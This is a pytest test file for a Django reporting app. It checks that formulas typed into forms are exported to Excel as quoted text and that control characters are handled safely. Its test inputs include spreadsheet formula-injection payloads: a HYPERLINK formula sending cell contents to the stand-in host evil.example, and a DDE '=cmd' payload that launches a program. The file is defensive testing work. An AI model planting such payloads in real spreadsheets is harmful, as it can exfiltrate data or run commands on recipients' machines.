"""Formula injection through the exports: whatever a user typed comes out of a workbook as a plain string
cell, never as a formula Excel would run, and control characters never break the export."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from bureau.ledger.registry import REGISTRY
from reports.exporters.monthly import campaign_record_types
from tests.helpers import Ledger, create_url, workbook_of
from tests.world import valid_data

from .strategies import EMOJI_CHINESE, ESC_TEXT, FORMULAS

pytestmark = pytest.mark.django_db

FIRST_TEXT_FIELD = {
    "study-sessions": "topic",
    "rectifications": "problem",
    "research-topics": "title",
    "research-visits": "findings",
    "questionnaires": "title",
    "suggestions": "content",
    "research-reports": "title",
    "enterprise-visits": "summary",
    "enterprise-issues": "description",
    "applications": "certificate_no",
    "agreements": "title",
    "plan-tasks": "title",
}


def monthly(client, world, month="2019-10"):
    response = client.get(reverse("reports:monthly-workbook"), {"campaign": world.campaign.pk, "month": month})
    assert response.status_code == 200
    return workbook_of(response)


def cells_with(workbook, text):
    return [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_typed_into_a_form_is_exported_as_text(staff_client, world, formula):
    data = {**valid_data("study-sessions", world), "topic": formula, "place": formula, "notes": formula}
    response = staff_client.post(create_url("study-sessions"), data)
    assert response.status_code == 302
    workbook = monthly(staff_client, world)
    found = cells_with(workbook, formula.strip())  # forms strip a leading tab or carriage return
    assert len(found) == 3, [list(r) for r in workbook["学习活动"].iter_rows(values_only=True)]
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formulas_stored_unstripped_are_exported_as_text(staff_client, world, formula):
    """Forms strip leading tabs and carriage returns; a value stored otherwise (admin shell, an old import)
    still leaves the workbook as a quoted string."""
    from tests.world import StudySessionFactory

    StudySessionFactory(campaign=world.campaign, recorded_by=world.user, topic=formula, place=formula)
    workbook = monthly(staff_client, world)
    found = cells_with(workbook, formula)
    assert len(found) == 2, [list(r) for r in workbook["学习活动"].iter_rows(values_only=True)]
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


@pytest.mark.parametrize("slug", [rt.slug for rt in campaign_record_types() if rt.slug in FIRST_TEXT_FIELD])
def test_every_sheet_of_the_workbook_writes_typed_formulas_as_text(client, world, admin_user, slug):
    """One formula per record type, through its own form, into its own sheet of the monthly workbook."""
    field = FIRST_TEXT_FIELD[slug]
    record_type = REGISTRY[slug]
    client.force_login(admin_user)
    world.user = admin_user
    formula = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    data = {**valid_data(slug, world), field: formula}
    if slug == "applications":
        data.update(status="approved", decided_on="2019-10-20", filed_on="2019-10-15")
    response = client.post(create_url(slug), data)
    assert response.status_code == 302
    sheet = monthly(client, world)[str(record_type.model._meta.verbose_name_plural)[:31]]
    found = [c for row in sheet.iter_rows() for c in row if c.value == formula]
    assert found, list(sheet.iter_rows(values_only=True))
    assert all(c.data_type == "s" and c.quotePrefix for c in found)


def test_control_characters_typed_into_a_form_do_not_break_the_export(staff_client, world):
    data = {**valid_data("study-sessions", world), "topic": ESC_TEXT, "notes": "\x01=1+1"}
    assert staff_client.post(create_url("study-sessions"), data).status_code == 302
    workbook = monthly(staff_client, world)
    rows = [list(r) for r in workbook["学习活动"].iter_rows(values_only=True)]
    assert "学习党章[31m红色[0m" in rows[1]  # the ESC characters are dropped, the rest is kept
    note = next(c for c in cells_with(workbook, "=1+1"))
    assert note.data_type == "s" and note.quotePrefix  # dropping \x01 must not turn the rest into a formula


def test_closing_a_month_with_control_characters_and_formulas_in_it_works(staff_client, client, leader, world):
    data = {**valid_data("study-sessions", world), "topic": ESC_TEXT, "notes": "=1+1"}
    assert staff_client.post(create_url("study-sessions"), data).status_code == 302
    from django.test import Client

    leader_client = Client()
    leader_client.force_login(leader)
    ledger = Ledger()
    response = leader_client.post(reverse("reports:close-month"), {"campaign": world.campaign.pk, "month": "2019-10"})
    assert response.status_code == 302
    ledger.assert_created("reports.MonthClose")
    from reports.models import MonthClose

    closed = MonthClose.objects.get()
    stored = load_workbook(io.BytesIO(closed.workbook.read()))
    note = cells_with(stored, "=1+1")[0]
    assert note.data_type == "s" and note.quotePrefix


def test_emoji_and_formulas_in_questionnaire_answers_export_as_text(client, staff_client, world):
    questionnaire = world.questionnaire
    questions = {q.kind: q for q in questionnaire.questions.all()}
    answer = {
        questions["single"].field_name: "满意",
        questions["multiple"].field_name: ["技术培训"],
        questions["rating"].field_name: "5",
        questions["short_text"].field_name: "=1+1",
        questions["long_text"].field_name: EMOJI_CHINESE + "\n@SUM(A1:A3)",
    }
    assert client.post(world.link.get_public_url(), answer).status_code == 302
    response = staff_client.get(reverse("surveys:questionnaire-export", args=[questionnaire.pk]))
    assert response.status_code == 200
    workbook = workbook_of(response)
    for text in ("=1+1", EMOJI_CHINESE + "\n@SUM(A1:A3)"):
        found = cells_with(workbook, text)
        assert found and all(c.data_type == "s" for c in found), text
    assert cells_with(workbook, "=1+1")[0].quotePrefix


def test_a_formula_as_a_bureau_name_stays_text_in_the_title(staff_client, world):
    world.bureau.name = "=cmd|' /C calc'!A0"
    world.bureau.save()
    workbook = monthly(staff_client, world)
    title = workbook["汇总"]["A1"]
    assert title.data_type == "s" and title.value.startswith("=cmd") and title.quotePrefix


def test_a_formula_as_an_enterprise_name_stays_text_in_the_import_template(staff_client, world):
    world.enterprise.name = '=HYPERLINK("http://evil.example")'
    world.enterprise.save()
    response = staff_client.get("/imports/enterprise-visits/template.xlsx")
    assert response.status_code == 200
    workbook = workbook_of(response)
    for c in (c for s in workbook.worksheets for row in s.iter_rows() for c in row):
        if isinstance(c.value, str) and "evil.example" in c.value:
            assert c.data_type == "s"
            assert c.quotePrefix or not c.value.startswith("=")
